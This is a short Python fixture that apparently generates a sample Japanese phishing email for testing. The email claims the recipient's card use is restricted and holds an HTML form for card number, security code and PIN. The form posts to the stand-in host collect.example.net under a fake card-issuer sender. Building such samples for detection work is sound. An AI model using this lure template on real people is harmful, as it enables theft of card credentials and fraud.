"""The mail itself is a form for the number and the code of a card.
Scenario: Council of Anti-Phishing Japan, FAQ (what phishing asks for)."""
from kit import *


def make():
    page = ('<html><body><p>ご利用の一部を制限しております。カード情報をご入力ください。</p><form action="https://collect.example.net/c">'
            'カード番号<input name="f1"><br>セキュリティコード<input name="f2"><br>暗証番号<input type="password" name="f3">'
            '<input type="submit" value="確認する"></form></body></html>')
    return (Mail("【重要】カードご利用確認のお願い", "info@card.example.net", name="例示カード").html(page, charset="iso-2022-jp").bytes())
